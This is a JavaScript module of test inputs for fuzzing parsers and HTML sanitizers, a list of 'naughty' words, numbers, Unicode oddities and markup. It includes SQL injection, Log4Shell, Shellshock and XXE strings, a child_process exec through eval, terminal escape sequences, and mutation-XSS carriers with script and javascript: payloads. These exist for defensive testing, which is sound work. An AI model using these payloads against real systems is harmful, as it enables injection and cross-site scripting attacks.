// More texts that get programs into trouble: words that are no words, numbers that are none, scripts of all sorts, and
// markup as it slips through programs that try to clean HTML. All markup names "evil", as in hostileTexts.mjs.
import { readFileSync } from "node:fs";

const RUN = "globalThis.__evil=1";

const WORDS = [
  ..."undefined,undef,null,NULL,(null),nil,NIL,true,false,True,None,hasOwnProperty,__proto__,constructor,prototype".split(
    ",",
  ),
  ..."valueOf,then,toJSON,length,if,__defineGetter__,__class__,%p,%x%s%n,-,--,--help,--version,-rf,/,\\,\\\\".split(
    ",",
  ),
  ..."COM1,LPT1,AUX,PRN,NUL,.,..,~,$HOME,%HOME%,Scunthorpe,Penistone,Dick Cheney,Null,Test,O'Brien".split(","),
  "DROP TABLE users; --evil",
  "1'; EXEC sp_evil; --",
  "eval(\"require('child_process').exec('evil')\")",
  "System('ls -al /evil')",
  "Kernel.exec('evil')",
  "$\u007bjndi:ldap://evil.invalid/a}",
  "() { :;}; echo evil",
  "<?xml version='1.0'?><!DOCTYPE evil [<!ENTITY x SYSTEM 'file:///etc/evil'>]><evil>&x;</evil>",
  "File:///evil",
  "If you read this aloud, evil happens",
];

const NUMBERS = [
  ..."0,1,1.00,$1.00,1/2,1E2,1E02,1E+02,-1,-1.00,-$1.00,-1/2,-1E2,1/0,0/0,0.00,0..0,.,0.0.0,0e0,--1,-,-.".split(","),
  ..."NaN,Infinity,-Infinity,INF,1#INF,1#QNAN,0x0,0xffffffff,0xabad1dea,1e1000,1e-1000,1_000,01000,08,٣,一,½".split(
    ",",
  ),
  ..."9007199254740993,123456789012345678901234567890123456789,2147483648,-2147483649,99999999999999999999999".split(
    ",",
  ),
  "0,00",
  "0,,0",
  "1,000,000.00",
  "1.000.000,00",
  "1 000 000,00",
  "1'000'000.00",
];

const SCRIPTS = [
  ",./;'[]\\-=",
  '<>?:"{}|_+',
  "!@#$%^&*()`~",
  "Ω≈ç√∫˜µ≤≥÷",
  "åß∂ƒ©˙∆˚¬…æ",
  "¡™£¢∞§¶•ªº–≠",
  "⁰⁴⁵₀₁₂",
  "ด้้้้้็็็็็้้้้้็็็็",
  "田中さんにあげて下さい",
  "𠜎𠜱𠝹𠱓𠱸𠲖",
  "Ⱥ Ⱦ İ ı ſ ß ﬁ",
  "(╯°□°)╯︵ ┻━┻",
  "❤️ 💔 👩🏽 🐵 🙈",
  "🏳️‍🌈 0️⃣ #️⃣ *️⃣",
  "１２３ ١٢٣",
  "בְּרֵאשִׁית, בָּרָא אֱלֹהִים",
  "הָיְתָהtestالصفحات",
  "﷽",
  "مُنَاقَشَةُ",
  "T̷h̸e̶ ̴e̵v̷i̶l̸",
  "ʎuuɐɟ lıʌǝ",
  "𝐞𝐯𝐢𝐥 𝖊𝖛𝖎𝖑 𝓮𝓿𝓲𝓵 ⒠⒱⒤⒧",
  "᚛ᚄᚓᚐᚋᚒᚄ᚜",
  "\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f",
  "\u0001\u0002\u0003\u0004\u0005\u0006\u000e\u000f\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019",
  "\u0080\u0081\u0084\u0086\u0090\u0091\u0099\u009a\u009c\u009d\u009e\u009f",
  "\u202aevil\u202a",
  "a\u2069b\u2066c",
  "\ud83d",
  "\udbff\udbff",
  "Roses are \u001b[0;31mred\u001b[0m, evil is \u001b[0;34mblue",
  "But now\u001b[20C\u001b[3;5HEvil",
  "\u009b2J\u009b5;1Hevil",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u001b_Gevil\u001b\\",
  "\u001b]1337;File=name=ZXZpbA==:\u0007",
  "evil\u000b\u000cevil",
];

/** What is parsed by other rules inside, or ends where nobody thinks it does. */
const CARRIERS = [
  (/** @type {string} */ own) => `<math><mtext><table><mglyph><style><!--</style>${own}`,
  (/** @type {string} */ own) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${own}">`,
  (/** @type {string} */ own) => `<svg></p><style><a id="</style>${own}">`,
  (/** @type {string} */ own) => `<svg><desc>${own}</desc></svg>`,
  (/** @type {string} */ own) => `<svg><title><a id="</title>${own}">`,
  (/** @type {string} */ own) => `<svg><![CDATA[><image>]]>${own}`,
  (/** @type {string} */ own) => `<noscript><p title="</noscript>${own}">`,
  (/** @type {string} */ own) => `<xmp><p title="</xmp>${own}">`,
  (/** @type {string} */ own) => `<noembed><p title="</noembed>${own}">`,
  (/** @type {string} */ own) => `<noframes><p title="</noframes>${own}">`,
  (/** @type {string} */ own) => `<select><option><style></option></select>${own}`,
  (/** @type {string} */ own) => `<template><template>${own}</template>`,
  (/** @type {string} */ own) => `<table><tr><a></table>${own}`,
  (/** @type {string} */ own) => `<!-->${own}-->`,
  (/** @type {string} */ own) => `<!--${own}--!>${own}`,
  (/** @type {string} */ own) => `<?xml >${own}?>`,
  (/** @type {string} */ own) => `</p ${own}>`,
  (/** @type {string} */ own) => `<<${own}<`,
  (/** @type {string} */ own) => `"'>&quot;&apos;&gt;${own}`,
  (/** @type {string} */ own) => `&lt;${own}&gt;`,
];
const CONTENTS = [
  `<img src=x onerror=${RUN} title=evil>`,
  "<evil-el>",
  `<script>${RUN}//evil</script>`,
  `<svg/onload=${RUN}//evil>`,
  `<a href="javascript:${RUN}//evil">evil`,
];

/** Attributes that load, run, name or style. */
const ATTRIBUTES = [
  ..."onclick,onerror,onload,onfocus,onmouseover,onanimationend,onwheel,onbegin,onpointerenter,ontoggle"
    .split(",")
    .map((name) => `${name}=${RUN}//evil`),
  ..."href,xlink:href,src,srcset,action,formaction,data,poster,background,ping,code,classid,lowsrc,dynsrc"
    .split(",")
    .map((name) => `${name}="javascript:${RUN}//evil"`),
  'style="background:url(javascript:evil)"',
  'style="-moz-binding:url(//evil.invalid)"',
  'id="body" name="createElement"',
  'is="evil-el"',
  'slot="evil" part="evil"',
  'contenteditable="evil"',
];
const HOLDERS = [
  (/** @type {string} */ own) => `<input autofocus ${own}>`,
  (/** @type {string} */ own) => `" ${own} x="`,
];

/**
 * Texts of lists that lie beside the project, told by HOSTILE_TEXTS: files of JSON arrays, parted by commas. Such lists
 * belong to others, and every test of hostile texts tries them where they are at hand.
 */
const further = (process.env.HOSTILE_TEXTS ?? "")
  .split(",")
  .filter((file) => file !== "")
  .flatMap((file) => JSON.parse(readFileSync(file, "utf8")));

/** @type {readonly string[]} */
export const naughtyTexts = [
  ...new Set([
    ...WORDS,
    ...NUMBERS,
    ...SCRIPTS,
    ...CARRIERS.flatMap((carrier) => CONTENTS.map(carrier)),
    ...HOLDERS.flatMap((holder) => ATTRIBUTES.map(holder)),
    ...further,
  ]),
];
